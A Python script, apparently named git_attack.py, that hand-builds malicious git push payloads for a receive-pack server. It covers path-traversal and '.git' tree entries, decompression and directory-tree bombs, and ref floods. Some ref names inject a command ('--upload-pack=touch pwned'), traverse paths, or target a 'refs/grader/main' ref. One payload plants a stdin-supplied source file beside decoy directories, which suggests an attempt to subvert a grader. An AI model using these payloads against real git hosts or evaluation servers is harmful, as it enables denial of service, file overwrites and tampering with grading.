#!/usr/bin/env python3
"""What no git would push: bodies for git-receive-pack, made by hand, on stdout.
usage: git_attack.py KIND [COUNT]"""
import hashlib, os, struct, sys, zlib

KINDS = {b"commit": 1, b"tree": 2, b"blob": 3}
ZERO = "0" * 40


def name_of(kind, body):
    return hashlib.sha1(kind + b" %d\0" % len(body) + body).digest()


def head(kind, size):
    """The type and the size of an entry of a pack."""
    byte, size, out = kind << 4 | size & 15, size >> 4, b""
    while size:
        out, byte, size = out + bytes([byte | 128]), size & 127, size >> 7
    return out + bytes([byte])


def number(size):
    out = b""
    while size > 127:
        out, size = out + bytes([size & 127 | 128]), size >> 7
    return out + bytes([size])


class Pack:
    def __init__(self):
        self.entries = []

    def add(self, kind, body):
        self.entries.append(head(KINDS[kind], len(body)) + zlib.compress(body, 1))
        return name_of(kind, body)

    def add_copies(self, base, base_size, times, salt):
        """An object that is `times` its base, and 4 bytes more: as a delta of a few bytes for each."""
        copy = b"\xf0" + struct.pack("<I", base_size)[:3]
        delta = number(base_size) + number(times * base_size + 4) + copy * times + b"\x04" + struct.pack("<I", salt)
        self.entries.append(head(7, len(delta)) + base + zlib.compress(delta, 9))

    def commit(self, tree):
        who = b"A <a@example.org> 1700000000 +0000"
        return self.add(b"commit", b"tree " + tree.hex().encode() + b"\nauthor " + who + b"\ncommitter " + who + b"\n\nx\n")

    def bytes(self):
        out = b"PACK" + struct.pack(">II", 2, len(self.entries)) + b"".join(self.entries)
        return out + hashlib.sha1(out).digest()


def entry(mode, name, target):
    return mode + b" " + name + b"\0" + target


def line(text):
    return b"%04x" % (len(text) + 4) + text


def body(pack, commit, *refs):
    out, more = b"", b"\0report-status"
    for ref in refs or (b"refs/heads/evil",):
        out, more = out + line(ZERO.encode() + b" " + commit.hex().encode() + b" " + ref + more + b"\n"), b""
    return out + b"0000" + pack.bytes()


def small(pack):
    return pack.commit(pack.add(b"tree", entry(b"100644", b"a", pack.add(b"blob", b"a\n"))))


def name_tree(*entries):
    def make(count):
        pack = Pack()
        blob = pack.add(b"blob", b"int x;\n")
        return body(pack, pack.commit(pack.add(b"tree", b"".join(entry(m, n, blob) for m, n in entries))))
    return make


def copies(times):
    """COUNT objects, each so many MiB, none of which packs: of a pack of one."""
    def make(count):
        pack, base = Pack(), os.urandom(1 << 20)
        base_name = pack.add(b"blob", base)
        for i in range(count):
            pack.add_copies(base_name, len(base), times, i)
        return body(pack, small(pack))
    return make


def folders(pack, inner, depth):
    """Ten to the power of `depth` folders, in as many objects."""
    for _ in range(depth):
        inner = pack.add(b"tree", b"".join(entry(b"40000", b"d%d" % i, inner) for i in range(10)))
    return inner


def tree_bomb(count):
    pack = Pack()
    leaf = pack.add(b"tree", entry(b"100644", b"f.c", pack.add(b"blob", b"int x;\n")))
    deep = folders(pack, leaf, count)
    source = pack.add(b"blob", sys.stdin.buffer.read())
    kernel = pack.add(b"tree", entry(b"100644", b"attention.c", source) + entry(b"40000", b"deep", deep))
    decoy = pack.add(b"tree", entry(b"40000", b"pca.c", deep))
    root = entry(b"40000", b"attention", kernel) + entry(b"40000", b"deep", deep) + entry(b"40000", b"pca", decoy)
    return body(pack, pack.commit(pack.add(b"tree", root)))


def refs(names):
    def make(count):
        pack = Pack()
        return body(pack, small(pack), *names(count))
    return make


MAKERS = {
    "dotdot": name_tree((b"100644", b"..")),
    "dotgit": name_tree((b"100644", b".git")),
    "dotgit_case": name_tree((b"100644", b".GiT")),
    "slash": name_tree((b"100644", b"../../etc")),
    "twice": name_tree((b"100644", b"a"), (b"100644", b"a")),
    "copies": copies(20),
    "huge": copies(1500),
    "folders": tree_bomb,
    "refs": refs(lambda count: [b"refs/heads/b%d" % i for i in range(count)]),
    "ref_up": refs(lambda count: [b"refs/heads/../../../evil"]),
    "ref_config": refs(lambda count: [b"config"]),
    "ref_head": refs(lambda count: [b"HEAD"]),
    "ref_option": refs(lambda count: [b"--upload-pack=touch pwned"]),
    "ref_hidden": refs(lambda count: [b"refs/grader/main"]),
    "cut": lambda count: copies(1)(1)[:-5000],
}

if len(sys.argv) < 2 or sys.argv[1] not in MAKERS:
    sys.exit(__doc__ + "\nkinds: " + " ".join(MAKERS))
sys.stdout.buffer.write(MAKERS[sys.argv[1]](int(sys.argv[2]) if len(sys.argv) > 2 else 1))
